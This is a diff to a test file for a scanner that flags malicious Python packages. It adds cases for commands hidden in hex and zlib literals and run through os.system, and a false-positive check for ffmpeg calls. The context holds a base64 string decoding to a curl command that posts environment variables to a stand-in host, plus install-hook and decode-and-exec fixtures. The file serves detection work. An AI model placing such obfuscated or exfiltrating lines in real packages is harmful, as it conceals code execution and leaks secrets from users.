@@ -4,6 +4,8 @@ address or string of a real sample."""
 
 from __future__ import annotations
 
+import zlib
+
 import pytest
 
 from analysis.model import Severity
@@ -12,6 +14,7 @@ from tests.analysis.code.members import PAYLOAD, SDIST, WHEEL, C, H, L, M, scan,
 B64_CURL_ENV = (
     "Y3VybCAtZCAiJChlbnYpIiBodHRwczovL3guZXhhbXBsZS9j"  # curl -d "$(env)" https://x.example/c
 )
+ZIPPED = zlib.compress(b"echo hello from a compressed command")
 INSTALL_CLASS = (
     "from setuptools import setup\nfrom setuptools.command.install import install\n"
     "class Hook(install):\n    def run(self):\n        install.run(self)\n        {body}\n"
@@ -191,6 +194,14 @@ CASES = [
     ({"demo/__init__.py": "import base64\nBLOB = '" + "QUJD" * 60 + "'\n"
                           "exec(base64.b64decode(globals()['BL' + 'OB']))\n"},
      "code.decode-exec", C, "a module-level blob decoded through a name the code builds"),
+    ({"demo/media.py": "import subprocess, requests\ndef frame(url, out):\n"
+                       "    cmd = ['ffmpeg', '-i', url, out]\n    subprocess.run(cmd)\n"
+                       "def grab(api):\n    url = requests.get(api).json()['play']\n    frame(url, 'f.jpg')\n"},
+     "code.process-spawn", None, "FP regression: a fetched URL in an argument list built in a variable"),
+    ({"demo/hx.py": "import os\ndef go():\n    os.system(bytes.fromhex('6563686f2068656c6c6f').decode())\n"},
+     "code.decode-exec", H, "a command hidden in a hex literal the package ships, when called"),
+    ({"demo/hx.py": f"import os, zlib\ndef go():\n    os.system(zlib.decompress({ZIPPED!r}).decode())\n"},
+     "code.decode-exec", H, "a command hidden in a compressed literal, when called"),
     # ---- benign look-alikes of the new sources and senders
     ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
                    "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
